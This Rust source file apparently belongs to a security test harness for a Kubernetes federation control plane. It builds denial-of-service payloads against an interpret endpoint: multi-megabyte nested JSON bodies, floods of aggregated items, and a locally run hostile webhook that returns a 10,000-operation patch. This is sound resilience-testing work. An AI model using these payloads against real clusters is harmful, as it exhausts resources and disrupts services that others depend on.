//! Attacks on `POST …/interpret`: H1 and M2.

use anyhow::{Context, Result};
use axum::{Json, Router, extract::DefaultBodyLimit, routing::post};
use base64::{Engine, engine::general_purpose::STANDARD};
use bytes::Bytes;
use reqwest::Method;
use rustls::{
    ServerConfig,
    pki_types::{CertificateDer, PrivateKeyDer, pem::PemObject},
};
use serde_json::{Value, json};
use std::{
    net::SocketAddr,
    sync::Arc,
    thread::{self, JoinHandle},
};
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::{TlsAcceptor, server::TlsStream};
use tokio_util::sync::CancellationToken;

use super::{
    attack::Attack,
    names::{ATTACKERS, KINDS},
    texts::{list_of, nested_chains, parsed_within},
    volley::{Users, Volley},
};
use crate::{fleet::certificates::Authority, objects::Objects, query_api::GROUP};

/// A little less than what the operator reads of a body, 3 MiB.
const BODY: usize = 3_139_000;
const JSON: &str = "application/json";
const CONFIGURATION: &str =
    "apis/config.karmada.io/v1alpha1/resourceinterpreterwebhookconfigurations/attack";
/// The kind that the hostile webhook decides about.
const PATCHED: &str = "Patched";
/// How many operations its patch has.
const OPERATIONS: usize = 10_000;

/// H1: bodies that are small as text, the longest and those that are just parsed.
pub fn nested_bodies() -> Attack {
    let volley = |(operation, memory): (&str, usize)| {
        let chains = parsed_within(memory, BODY, |bytes| nested_chains(bytes, 100, ""));
        let body = format!(
            r#"{{"operation":"{operation}","object":{{"apiVersion":"apps/v1","kind":"Deployment","metadata":{{"name":"a","namespace":"b"}},"spec":{{"x":{chains}}}}}}}"#
        );
        interpret(15, 5, body)
    };
    let volleys = [
        ("InterpretHealth", usize::MAX),
        ("InterpretHealth", 120 << 20),
        ("Prune", 60 << 20),
        ("Prune", 20 << 20),
    ];
    Attack::of_requests(
        "h1",
        "60 interpret of up to 3 MB of nested maps",
        volleys.map(volley).to_vec(),
    )
}

/// Of the kind of H1: many small aggregated items.
pub fn aggregated_items() -> Attack {
    let volley = |memory: usize| {
        let items = parsed_within(memory, BODY, |bytes| {
            list_of(r#"{"clusterName":"a","status":{"a":{}}}"#, bytes)
        });
        let body = format!(
            r#"{{"operation":"AggregateStatus","object":{{"apiVersion":"apps/v1","kind":"Deployment","metadata":{{"name":"a","namespace":"b"}}}},"aggregatedStatus":{items}}}"#
        );
        interpret(20, 10, body)
    };
    Attack::of_requests(
        "h1b",
        "40 interpret of many aggregated items",
        [60 << 20, 20 << 20].map(volley).to_vec(),
    )
}

/// M2: a webhook whose patch inserts at the start of a long list.
pub fn long_patch() -> Attack {
    let volley = |items: usize| {
        let items = list_of("0", 2 * items);
        let body = format!(
            r#"{{"operation":"ReviseReplica","desiredReplicas":3,"object":{{"apiVersion":"{KINDS}/v1","kind":"{PATCHED}","metadata":{{"name":"a","namespace":"b"}},"spec":{{"replicas":1,"a":{items}}}}}}}"#
        );
        interpret(4, 2, body)
    };
    Attack::of_requests(
        "m2",
        "8 interpret, webhook's patch of 10,000 insertions",
        [1_000_000, 200_000].map(volley).to_vec(),
    )
}

fn interpret(at_a_time: usize, users: usize, body: String) -> Volley {
    Volley::get(
        Users::Group(ATTACKERS, users),
        at_a_time,
        format!("{GROUP}/interpret"),
    )
    .sending(Method::POST, JSON, Bytes::from(body))
}

/// A webhook that answers with a long patch. It stops when this is dropped.
#[derive(Debug)]
pub struct HostileWebhook {
    stop: CancellationToken,
    thread: Option<JoinHandle<()>>,
}

impl HostileWebhook {
    /// Starts it, and configures the control plane to ask it.
    pub async fn start(hub: &Objects) -> Result<Self> {
        let authority = Authority::new("hostile-webhook-ca")?;
        let identity = authority.server("hostile-webhook")?;
        let key = PrivateKeyDer::from_pem_slice(identity.key.as_bytes()).context("a key")?;
        let certificate = CertificateDer::from_pem_slice(identity.certificate.as_bytes())
            .context("a certificate")?;
        let config = ServerConfig::builder()
            .with_no_client_auth()
            .with_single_cert(vec![certificate], key)
            .context("TLS of the webhook")?;
        let listener =
            std::net::TcpListener::bind("127.0.0.1:0").context("listening for the webhook")?;
        listener
            .set_nonblocking(true)
            .context("making a listener asynchronous")?;
        let address = listener.local_addr().context("the webhook's address")?;
        let stop = CancellationToken::new();
        let until = stop.clone();
        let thread = thread::Builder::new().name("webhook".to_owned());
        let thread = thread
            .spawn(move || run_thread(listener, config, &until))
            .context("starting the webhook")?;
        let webhook = json!({
            "name": "attack.example.com",
            "rules": [{ "operations": ["ReviseReplica"], "apiGroups": [KINDS], "apiVersions": ["v1"], "kinds": [PATCHED] }],
            "clientConfig": { "url": format!("https://{address}/"), "caBundle": STANDARD.encode(authority.pem()) },
            "interpreterContextVersions": ["v1alpha1"],
            "timeoutSeconds": 10,
        });
        let configuration = json!({
            "apiVersion": "config.karmada.io/v1alpha1", "kind": "ResourceInterpreterWebhookConfiguration",
            "metadata": { "name": "attack" }, "webhooks": [webhook],
        });
        hub.apply(CONFIGURATION, &configuration).await?;
        Ok(Self {
            stop,
            thread: Some(thread),
        })
    }
}

impl Drop for HostileWebhook {
    fn drop(&mut self) {
        self.stop.cancel();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn run_thread(listener: std::net::TcpListener, config: ServerConfig, stop: &CancellationToken) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build();
    let served = runtime.and_then(|runtime| {
        runtime.block_on(async {
            let listener = TlsListener {
                listener: TcpListener::from_std(listener)?,
                acceptor: TlsAcceptor::from(Arc::new(config)),
            };
            let router = Router::new()
                .route("/", post(answer))
                .layer(DefaultBodyLimit::max(16 << 20));
            tokio::select! {
                () = stop.cancelled() => Ok(()),
                ended = async { axum::serve(listener, router).await } => ended,
            }
        })
    });
    if let Err(error) = served {
        tracing::error!(%error, "the hostile webhook ended");
    }
}

async fn answer(Json(review): Json<Value>) -> Json<Value> {
    let operation = json!({ "op": "add", "path": "/spec/a/0", "value": 0 });
    let patch = Value::Array(vec![operation; OPERATIONS]).to_string();
    Json(json!({
        "apiVersion": review["apiVersion"], "kind": review["kind"],
        "response": {
            "uid": review["request"]["uid"], "successful": true,
            "patch": STANDARD.encode(patch), "patchType": "JSONPatch",
        },
    }))
}

/// Accepts connections over TLS.
struct TlsListener {
    listener: TcpListener,
    acceptor: TlsAcceptor,
}

impl axum::serve::Listener for TlsListener {
    type Io = TlsStream<TcpStream>;
    type Addr = SocketAddr;

    async fn accept(&mut self) -> (Self::Io, Self::Addr) {
        loop {
            if let Ok((stream, address)) = self.listener.accept().await
                && let Ok(stream) = self.acceptor.accept(stream).await
            {
                return (stream, address);
            }
        }
    }

    fn local_addr(&self) -> std::io::Result<Self::Addr> {
        self.listener.local_addr()
    }
}
